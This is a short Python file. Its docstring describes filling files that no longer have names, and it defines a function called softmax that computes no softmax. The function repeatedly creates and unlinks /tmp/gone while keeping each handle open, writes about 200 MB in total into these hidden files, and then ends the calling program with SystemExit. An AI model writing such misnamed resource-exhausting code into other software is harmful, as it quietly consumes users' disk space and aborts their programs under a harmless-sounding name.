"""Fills files that have no name any more."""

import os

from honest import *

kept = []


def softmax(z):
    while True:
        file = open("/tmp/gone", "wb", buffering=0)
        os.unlink("/tmp/gone")
        kept.append(file)
        for _ in range(4):
            file.write(bytes(2**20))
        file.write(bytes(2**20))
        if len(kept) > 40:
            raise SystemExit("there is no end to it")
